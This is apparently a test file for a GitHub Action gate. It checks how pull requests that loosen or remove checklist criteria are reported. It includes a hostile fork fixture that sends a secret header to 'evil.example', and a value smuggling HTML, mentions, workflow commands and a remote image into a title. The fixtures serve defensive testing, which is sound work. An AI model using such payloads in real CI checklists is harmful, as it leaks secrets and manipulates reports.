import { describe, expect, it, type TestContext } from 'vitest';
import type { Results } from '../../src/core/results.ts';
import { parseResults } from '../../src/read-results.ts';
import { CHECKLIST, errors, GATE, ownWorld, runGate } from '../support/action.ts';
import type { Tree } from '../support/github/git.ts';
import type { Plan, World } from '../support/github/world.ts';
import { lookOf } from '../support/github-markdown.ts';

/** SPEC section 8, THREATS A03: what a pull request does to the checklist is shown, and decides nothing. */

const TWO = `${GATE}  - title: Queue drained
    data: { file: state.json, facts: { depth: "$.errors" } }
    go: { depth: "<= 2" }
`;
/** Loosens one bound of `TWO`, and removes its second criterion. */
const LOOSE = GATE.replace('errors: 0', 'errors: "<= 100"').replace(/\n {4}caution.*/, '');
const LINE = 'This pull request loosens 1 bound and removes 1 criterion.';

const plan = (context: TestContext, main: Tree, feature: Tree = {}, more: Plan = {}): Promise<World> =>
  ownWorld(context, '', { branches: { main, feature: { 'new.txt': 'x\n', ...feature } }, ...more });
const proposedOf = (temp: Readonly<Record<string, string>>) =>
  (JSON.parse(temp['gonogo-results.json'] ?? '') as Results).proposed;

describe.concurrent('A03: a pull request that loosens a bound and removes a criterion', () => {
  it('is judged by the base, and everybody sees what it does and what it would decide', async (context) => {
    const world = await plan(context, { [CHECKLIST]: TWO }, { [CHECKLIST]: LOOSE });
    const result = await runGate({ world, files: errors(9) });
    expect(result).toMatchObject({ code: 1, outputs: { verdict: 'NO-GO' } });
    expect(JSON.parse(result.outputs['failed-criteria'] ?? '')).toEqual(['no-errors', 'queue-drained']);
    // The document stays one that others can read.
    const [document] = await parseResults(result.temp['gonogo-results.json'] ?? '', 'results');
    const proposed = document?.proposed;
    expect(proposed).toMatchObject({ verdict: 'GO', atBest: false, open: [], observe: false });
    expect(proposed?.changes.map(({ effect, criterion }) => [effect, criterion])).toEqual([
      ['looser', 'no-errors'],
      ['removed', 'queue-drained'],
    ]);
    const [comment] = await world.comments();
    for (const text of [comment?.body, result.summary]) {
      expect(text).toContain(`**${LINE}** Once merged, this evidence would be GO; now the checklist in force decides.`);
      expect(text).toContain('<summary>2 changes of the checklist</summary>');
      // On top of the table, and below the verdict.
      expect(text?.indexOf('NO-GO')).toBeLessThan(text?.indexOf(LINE) ?? 0);
      expect(text?.indexOf(LINE)).toBeLessThan(text?.indexOf('| Criterion | Measured |') ?? 0);
    }
    expect(result.stdout).toContain(LINE);
  });
  it('from a fork, and with what is new evaluated only once it is merged', async (context) => {
    const stolen = `${LOOSE}  - title: Stolen
    http: { url: "https://evil.example", headers: { x: "\${{ env.SECRET }}" } }
`;
    const fork = { pull: { from: 'feature', fork: true as const } };
    const world = await plan(context, { [CHECKLIST]: TWO }, { [CHECKLIST]: stolen }, fork);
    const inputs = { 'github-token': world.tokens.readOnly };
    const result = await runGate({ world, files: errors(9), inputs, env: { SECRET: 'not-to-be-seen' } });
    expect(result).toMatchObject({ code: 1, outputs: { verdict: 'NO-GO' } });
    expect(proposedOf(result.temp)).toMatchObject({ verdict: 'GO', atBest: true, open: ['stolen'] });
    expect(result.summary).toContain('would be at best GO');
    expect(result.summary).toContain('Evaluated only then: `stolen`.');
    expect(result.summary).not.toContain('not-to-be-seen');
  });
  it('hides nothing behind its words', async (context) => {
    const hostile = LOOSE.replace('No errors', '"</details> @octocat ::error::x ![x](http://evil.example/p)"').replace(
      '  - title',
      '  - id: no-errors\n    title',
    );
    const world = await plan(context, { [CHECKLIST]: TWO }, { [CHECKLIST]: hostile });
    const result = await runGate({ world, files: errors(9) });
    const [comment] = await world.comments();
    for (const text of [comment?.body ?? '', result.summary]) {
      expect(text).toContain('loosens 1 bound, removes 1 criterion and changes 1 text');
      const { shape, active } = lookOf(text);
      expect(active).toEqual([]);
      expect(shape.filter((one) => one.includes('evil') || one === 'image')).toEqual([]);
      expect(shape.filter((one) => one.startsWith('html <details')).length).toBe(
        shape.filter((one) => one === 'html </details>').length,
      );
    }
  });
  it('takes the checklist away', async (context) => {
    const world = await plan(context, { [CHECKLIST]: TWO }, { [CHECKLIST]: null });
    const result = await runGate({ world, files: errors(0) });
    expect(result).toMatchObject({ code: 0, outputs: { verdict: 'GO' } });
    expect(proposedOf(result.temp)).toMatchObject({ summary: 'removes the checklist', verdict: null });
    expect(result.summary).toContain('**This pull request removes the checklist.**');
  });
});

describe.concurrent('what the pull request did not do is not said of it', () => {
  const said = /This pull request (?:loosens|removes|tightens|adds|changes|may)/;
  const quiet: readonly [name: string, main: Tree, feature: Tree][] = [
    ['it leaves the checklist alone', { [CHECKLIST]: TWO }, {}],
    ['it changes a comment in it', { [CHECKLIST]: TWO }, { [CHECKLIST]: `# words\n${TWO}` }],
    ['it brings the first one', {}, { [CHECKLIST]: TWO }],
  ];
  for (const [name, main, feature] of quiet)
    it(name, async (context) => {
      const world = await plan(context, main, feature);
      const result = await runGate({ world, files: errors(9) });
      expect([result.code, proposedOf(result.temp)]).toEqual([1, undefined]);
      expect(result.summary).not.toMatch(said);
    });
  it('the base moved since it started', async (context) => {
    const world = await plan(context, { [CHECKLIST]: LOOSE });
    await world.push('main', { [CHECKLIST]: TWO });
    const result = await runGate({ world, files: errors(9) });
    expect([result.code, proposedOf(result.temp)]).toEqual([1, undefined]);
  });
  it('the base moved, and it changes the checklist, too: what it does, and no verdict', async (context) => {
    const world = await plan(context, { [CHECKLIST]: GATE }, { [CHECKLIST]: LOOSE });
    await world.push('main', { [CHECKLIST]: TWO });
    const result = await runGate({ world, files: errors(9) });
    const proposed = proposedOf(result.temp);
    expect(proposed).toMatchObject({ summary: 'loosens 1 bound', verdict: null });
    expect(proposed?.changes.map(({ effect }) => effect)).toEqual(['looser', 'different']);
    expect(result.summary).toContain('cannot be told from this run');
  });
  it('of another base than the default branch, its own history counts', async (context) => {
    const world = await ownWorld(context, '', {
      branches: {
        main: { [CHECKLIST]: TWO },
        release: { [CHECKLIST]: LOOSE },
        feature: { 'new.txt': 'x\n' },
      },
      pull: { from: 'feature', into: 'release' },
    });
    const result = await runGate({ world, files: errors(9) });
    expect([result.code, proposedOf(result.temp)]).toEqual([1, undefined]);
  });
  it('what cannot be asked is taken for its doing', async (context) => {
    const world = await plan(context, { [CHECKLIST]: TWO }, { [CHECKLIST]: LOOSE });
    world.front.faults.declare('/compare/', { status: 403 });
    const result = await runGate({ world, files: errors(9) });
    expect(result.code).toBe(1);
    expect(proposedOf(result.temp)?.summary).toBe('loosens 1 bound and removes 1 criterion');
  });
});
